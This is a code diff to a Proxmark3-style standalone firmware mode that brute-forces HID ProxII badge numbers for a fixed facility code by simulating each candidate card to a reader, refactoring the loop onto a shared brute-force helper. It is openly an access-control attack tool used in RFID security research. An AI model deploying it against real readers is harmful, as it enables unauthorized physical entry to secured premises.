@@ -31,26 +31,28 @@
 #include "util.h"
 #include "dbprint.h"
 #include "lfops.h"
-#include "parity.h"
+#include "lf_brute.h"
 
 #define CARDNUM_START 0
 #define CARDNUM_END 0xFFFF
 #define FACILITY_CODE 2
+// simulation cycles per card number
+#ifndef PROX2BRUTE_DWELL
+#define PROX2BRUTE_DWELL 20000
+#endif
 
 void ModInfo(void) {
     DbpString("  LF HID ProxII bruteforce v2");
 }
 
+static lf_brute_t brute;
+
 // samy's sniff and repeat routine for LF
 void RunMod(void) {
     StandAloneMode();
     Dbprintf(">>  LF HID proxII bruteforce v2 a.k.a Prox2Brute Started <<");
     FpgaDownloadAndGo(FPGA_BITSTREAM_LF);
 
-    const uint32_t high = 0x20; // LF high value is always 0x20 here
-
-    uint32_t fac = FACILITY_CODE, cardnum = 0;
-
     LED_D_ON();
     while (BUTTON_HELD(200) != BUTTON_HOLD) { // Waiting for a 200ms button press
         WDT_HIT();
@@ -69,7 +71,11 @@ void RunMod(void) {
     Dbprintf("[=] Starting HID ProxII Bruteforce from card %08x to %08x",
              CARDNUM_START, MIN(CARDNUM_END, 0xFFFF));
 
-    for (cardnum = CARDNUM_START ; cardnum <= MIN(CARDNUM_END, 0xFFFF) ; cardnum++) {
+    lf_brute_init(&brute, LF_BRUTE_H10301, LF_BRUTE_CN, FACILITY_CODE, CARDNUM_START, CARDNUM_END, PROX2BRUTE_DWELL, 0);
+    brute.ledcontrol = false;
+
+    uint32_t cardnum = CARDNUM_START;
+    while (lf_brute_next(&brute)) {
         WDT_HIT();
 
         // exit from SamyRun,   send a usbcommand.
@@ -78,16 +84,12 @@ void RunMod(void) {
         // short button press may be used for fast-forward
         if (BUTTON_HELD(1000) == BUTTON_HOLD) break; // long button press (>=1sec) exit
 
-        // calculate the new LF low value including Card number, Facility code and checksum
-        uint32_t low = (cardnum << 1) | (fac << 17);
-        low |= oddparity32((low >> 1) & 0xFFF);
-        low |= evenparity32((low >> 13) & 0xFFF) << 25;
-
+        cardnum = brute.value;
         Dbprintf("[=] trying Facility = %08x, Card = %08x, raw = %08x%08x",
-                 fac, cardnum, high, low);
+                 brute.fc, cardnum, brute.high, brute.low);
 
-        // Start simulating an HID TAG, with high/low values, no led control and 20000 cycles timeout
-        CmdHIDsimTAGEx(0, high, low, 0, false, 20000);
+        // Start simulating an HID TAG, no led control
+        lf_brute_sim(&brute);
 
         // switch leds to be able to know (aproximatly) which card number worked (64 tries loop)
         LED_A_INV(); // switch led A every try
@@ -101,7 +103,7 @@ void RunMod(void) {
 
     SpinErr((LED_A | LED_B | LED_C | LED_D), 250, 5); // Xmax tree
     Dbprintf("[=] Ending HID ProxII Bruteforce from card %08x to %08x",
-             CARDNUM_START, cardnum - 1);
+             CARDNUM_START, cardnum);
     DbpString("[=] You can take the shell back :) ...");
     LEDsoff(); // This is the end
 }